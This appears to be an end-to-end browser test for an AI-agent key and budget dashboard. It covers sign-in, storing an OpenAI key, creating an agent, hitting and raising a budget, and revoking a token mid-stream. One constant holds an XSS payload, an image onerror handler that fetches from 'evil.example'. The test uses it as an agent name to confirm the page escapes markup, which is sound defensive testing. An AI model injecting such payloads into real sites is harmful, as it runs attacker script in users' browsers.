// A newcomer's way: sign in, add a key, make an agent, see its calls, meet a budget, raise it, and revoke in the middle of a stream.
import assert from 'node:assert/strict';
import test from 'node:test';
import { api, axe, launch, open, openai, settled, show, world } from './world.mjs';

const HOSTILE = `<img src=x onerror="fetch('//evil.example')">`;
const HELLO = { model: 'gpt-5-nano', messages: [{ role: 'user', content: 'Hello!' }] };

test('the way of a newcomer', async (context) => {
  const browser = await launch();
  context.after(() => browser.close());
  const { page, nothingWrong } = await open(browser);
  let token = '';

  // The link of the greeting signs in once, and the code leaves the address.
  await page.goto(world.link);
  await page.getByRole('heading', { name: 'Overview' }).waitFor();
  assert.ok(!page.url().includes('code='), page.url());
  const cookies = await page.context().cookies();
  assert.deepEqual(cookies.map(({ httpOnly, sameSite }) => [httpOnly, sameSite]), [[true, 'Strict']]);
  assert.ok(!(await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }))).includes('kss_'));

  // A key: recognised, tried at the vendor, stored, and not in the page any more.
  await page.getByRole('link', { name: 'Credentials' }).click();
  await page.getByRole('button', { name: 'Add a key' }).first().click();
  await page.getByRole('button', { name: 'openai', exact: true }).click();
  await page.getByLabel('API key').fill(world.wrongKey);
  await page.getByText('It has the form of a key of OpenAI').waitFor();
  await page.getByText('It is at another address').click();
  await page.getByLabel('Base URL').fill(world.vendor);
  assert.deepEqual(await axe(page), []);
  await page.getByRole('button', { name: 'Verify and store' }).click();
  const refused = page.getByRole('dialog').getByRole('alert');
  await refused.waitFor();
  assert.match(await refused.innerText(), /credential/);
  await page.getByLabel('API key').fill(world.key);
  await page.getByRole('button', { name: 'Verify and store' }).click();
  await page.getByRole('status').filter({ hasText: 'is stored' }).waitFor();
  assert.ok(!(await page.content()).includes(world.key));

  // An agent with an own key and the marketplace side by side, and a name that wants to be markup.
  await page.getByRole('link', { name: 'Create an agent that may use it' }).click();
  await page.getByLabel('Name').fill(HOSTILE);
  await page.getByRole('button', { name: '+ openai' }).click();
  await page.getByRole('button', { name: '+ sandbox' }).click();
  await page.getByRole('radio', { name: /Marketplace/ }).nth(1).check();
  await page.getByLabel('Dollars a month').fill('5');
  assert.deepEqual(await axe(page), []);
  await page.getByRole('button', { name: 'Create the agent' }).click();
  token = await page.locator('[data-token]').innerText();
  assert.match(token, /^ks_[0-9a-f]{64}$/);
  assert.deepEqual(await axe(page), []);
  await page.getByRole('button', { name: 'Copy the token' }).click();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), token);
  await page.getByRole('tab', { name: 'TypeScript' }).click();
  assert.ok((await page.getByRole('tabpanel').innerText()).includes(`baseURL: "${world.proxyUrl}/v1/openai/v1"`));
  const agent = (await api('agents')).data.find(({ name }) => name === HOSTILE);
  assert.deepEqual(agent.providers.map(({ name, source }) => [name, source]).sort(), [['openai', 'byok'], ['sandbox', 'marketplace']]);

  // Its requests arrive by themselves.
  await page.getByRole('link', { name: 'watch its requests arrive' }).click();
  await page.getByText('No request is like this').waitFor();
  await page.locator('.live.on').waitFor();
  await openai(token).chat.completions.create(HELLO);
  const row = page.getByRole('row').filter({ hasText: 'gpt-5-nano' });
  await row.waitFor();
  assert.ok((await row.innerText()).includes(HOSTILE), 'the name is text');

  // How it went: when it came to each step, and which budget it was held against. It is found by what it cost.
  await row.getByRole('link').click();
  for (const step of ['Checked', 'Admitted, and written down', 'Sent', 'openai answered', 'Complete']) await page.locator('.steps').getByText(step, { exact: true }).waitFor();
  await page.getByRole('heading', { name: 'Budgets that it was held against' }).waitFor();
  await page.getByRole('link').filter({ hasText: 'held' }).filter({ hasText: HOSTILE }).waitFor();
  await settled(page);
  assert.deepEqual(await axe(page), []);
  await show(page, `requests?agent=${agent.id}&minCost=0.0000001`);
  await row.waitFor();
  await page.getByLabel('Cost', { exact: true }).selectOption('10');
  await page.getByText('No request is like this').waitFor();

  // A budget is met; the request says so, and what helps. Then it is raised.
  await show(page, `agents/${agent.id}`);
  await page.getByRole('button', { name: 'Change limits' }).click();
  await page.getByLabel('Dollars a month').fill('0');
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  await assert.rejects(openai(token).chat.completions.create(HELLO), /budget/);
  await show(page, `requests?agent=${agent.id}&code=budget_exceeded`);
  await page.getByRole('row').filter({ hasText: 'budget exceeded' }).getByRole('link').click();
  await page.getByText('Refused: budget exceeded').waitFor();
  await page.getByText('nothing was charged').waitFor();
  await page.getByRole('link', { name: 'See the agent’s budget, and raise it' }).click();
  await page.getByRole('heading', { name: HOSTILE }).waitFor();
  await page.getByRole('button', { name: 'Raise' }).click();
  await page.getByLabel('Up to').fill('20');
  await page.getByRole('dialog').getByRole('button', { name: 'Raise' }).click();
  await page.getByText('Raised, from the next request on').waitFor();
  await openai(token).chat.completions.create(HELLO);

  // What it may use is changed with the token that it has: read alone, and the marketplace while the key cannot serve.
  await show(page, `agents/${agent.id}`);
  await page.getByRole('button', { name: 'Change what it may use' }).click();
  await page.getByText('Narrower, or with something to fall back on').nth(1).click();
  await page.getByLabel('What it may do there').nth(1).selectOption('read');
  assert.deepEqual(await axe(page), []);
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  await page.getByText('provider:sandbox:read').waitFor();

  // Revoked while a stream runs: it is cut, and the page says so.
  const slow = openai(token, { defaultHeaders: { [world.directive]: 'chunk-delay-ms=20; output-tokens=4000' } });
  const stream = await slow.chat.completions.create({ ...HELLO, stream: true });
  const events = stream[Symbol.asyncIterator]();
  await events.next();
  const cut = (async () => {
    while (!(await events.next()).done);
  })();
  cut.catch(() => undefined);
  await page.getByRole('button', { name: 'Revoke', exact: true }).first().click();
  const confirm = page.getByRole('dialog');
  assert.ok(await confirm.getByRole('button', { name: 'Revoke for good' }).isDisabled());
  await confirm.getByRole('textbox').fill(HOSTILE);
  await confirm.getByRole('button', { name: 'Revoke for good' }).click();
  await page.getByText('One running call was cut.').waitFor();
  await assert.rejects(cut);
  await settled(page);
  assert.equal((await api(`agents/${agent.id}`)).status, 'revoked');
  nothingWrong();
});
